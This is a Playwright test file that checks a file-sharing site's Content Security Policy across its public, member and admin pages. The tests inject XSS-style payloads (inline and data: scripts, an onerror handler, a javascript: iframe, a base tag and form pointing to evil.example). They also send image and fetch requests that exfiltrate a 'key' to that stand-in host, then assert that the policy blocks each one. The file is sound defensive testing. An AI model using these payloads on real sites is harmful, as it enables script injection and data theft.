import type { Page } from "@playwright/test";
import { openAdmin } from "./support/admin.ts";
import { expect, test } from "./support/fixtures.ts";
import { signUp } from "./support/accounts.ts";
import { pathOf, requestByApi } from "./support/requests.ts";
import { uploadByApi } from "./support/sharing.ts";
import { uploadTransferByApi } from "./support/transfers.ts";
import { TRIP } from "./support/transfer-page.ts";

/** Collects the violations of a page's Content Security Policy. */
async function collectViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction("reportViolation", (violation: string) => {
    violations.push(violation);
  });
  await page.addInitScript(() => {
    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
      const report = Reflect.get(window, "reportViolation") as (text: string) => void;
      report(`${location.pathname}: ${effectiveDirective} ${blockedURI}`);
    });
  });
  return violations;
}

test("scripts injected into a page do not run, inline or uploaded @everyday", async ({ page, expectErrors }) => {
  await signUp(page);
  const body = "window.ran = 'uploaded'";
  const uploaded = await uploadByApi(page, { name: "a.js", type: "text/javascript", body });
  expectErrors(/Content Security Policy/);
  const violations = await collectViolations(page);
  const script = `/api/files/download/${uploaded}`;
  const injected = `
    <script>window.ran = 'inline'</script>
    <img src="/nothing-here" onerror="window.ran = 'handler'" hidden>
    <script src="${script}/content"></script>
    <script src="${script}/preview"></script>
    <script src="data:text/javascript,window.ran='data'"></script>
    <style>body { display: none }</style>
    <base href="https://evil.example/">
    <iframe src="javascript:parent.ran='frame'"></iframe>`;
  // React cannot hydrate a page with injected elements.
  expectErrors(/nothing-here|Minified React error/);
  await page.route("/about", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace("</main>", `${injected}</main>`) });
  });
  await page.goto("/about");
  await page.evaluate(() => {
    const form = document.createElement("form");
    form.action = "https://evil.example/";
    document.body.appendChild(form);
    form.submit();
  });
  await expect
    .poll(() => [...new Set(violations.map((violation) => violation.split(" ")[1]))].sort())
    .toEqual(["base-uri", "form-action", "script-src-attr", "script-src-elem", "style-src-elem"]);
  expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined();
  expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe("none");
  // Each response has its own nonce.
  const nonces = await Promise.all(
    [1, 2].map(async () => (await page.request.get("/")).headers()["content-security-policy"]),
  );
  expect(nonces[0]).not.toBe(nonces[1]);
});

/** Public pages, and those of a member. */
const PAGES = [
  "/",
  "/pricing",
  "/features",
  "/contact",
  "/about",
  "/terms",
  "/privacy",
  "/login",
  "/register",
  "/download",
  "/reset-password?token=x",
  "/chunked-upload",
  "/direct-upload",
  "/email-diagnostic",
  "/dev/mailbox",
  "/dev/sinks",
  "/dashboard",
  "/dashboard/requests",
  "/dashboard/received",
  "/account",
  "/account/billing-history",
  "/account/security",
  "/account/notices",
  "/unsubscribe/x",
  "/device",
  "/admin",
];

test("no page violates its Content Security Policy, from its first byte to its dialogs", async ({
  page,
  expectErrors,
}) => {
  test.slow();
  expectErrors(/404/);
  const violations = await collectViolations(page);
  await signUp(page);
  const link = await uploadByApi(page, { name: "a.txt", type: "text/plain", body: "text" });
  const { uploadId } = await uploadTransferByApi(page.request, TRIP);
  const request = await requestByApi(page, "Photos");
  const own = [`/download/${link}`, `/dashboard/${uploadId}`, pathOf(request)];
  for (const path of [...PAGES, ...own, "/nothing-here"]) {
    const response = await page.goto(path);
    expect(response?.headers()["content-security-policy"], path).toMatch(/script-src \S+\/assets\/ 'nonce-[^']{20,}';/);
    await page.waitForLoadState("networkidle");
  }
  // Dialogs insert a style with the nonce when they open.
  await page.goto("/dashboard");
  await page
    .getByRole("button", { name: /delete/i })
    .first()
    .click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).overflow)).toBe("hidden");
  for (const tab of [
    "overview",
    "users",
    "contact",
    "seo",
    "content",
    "reports",
    "uploads",
    "audit",
    "blocked",
    "sweep",
  ]) {
    await openAdmin(page, `?tab=${tab}`);
    await page.waitForLoadState("networkidle");
  }
  expect(violations).toEqual([]);
});

test("a link's page sends nothing to another site, and the page after it is a document of its own [SEAL-17]", async ({
  page,
  expectErrors,
}) => {
  const violations = await collectViolations(page);
  await signUp(page);
  const link = await uploadByApi(page, { name: "a.txt", type: "text/plain", body: "text" });
  await page.goto(`/download/${link}`);
  await page.waitForLoadState("networkidle");
  expect(violations).toEqual([]);
  // A request that the policy stops is still told as one that failed.
  expectErrors(/Content Security Policy|evil\.example/);
  await page.evaluate(() => {
    new Image().src = "https://evil.example/?key";
    void fetch("https://evil.example/", { method: "POST", body: "key" }).catch(() => null);
  });
  await expect
    .poll(() => new Set(violations.map((violation) => violation.split(" ")[1])))
    .toEqual(new Set(["img-src", "connect-src"]));
  await page.evaluate(() => Reflect.set(window, "isOld", true));
  await page.getByRole("contentinfo").getByRole("link", { name: "Pricing" }).click();
  await expect(page).toHaveURL("/pricing");
  expect(await page.evaluate(() => Reflect.get(window, "isOld") as unknown)).toBeUndefined();
  await page.waitForLoadState("networkidle");
  await page.evaluate(() => Reflect.set(window, "isOld", true));
  await page.getByRole("contentinfo").getByRole("link", { name: "Features" }).click();
  await expect(page).toHaveURL("/features");
  expect(await page.evaluate(() => Reflect.get(window, "isOld") as unknown)).toBe(true);
});
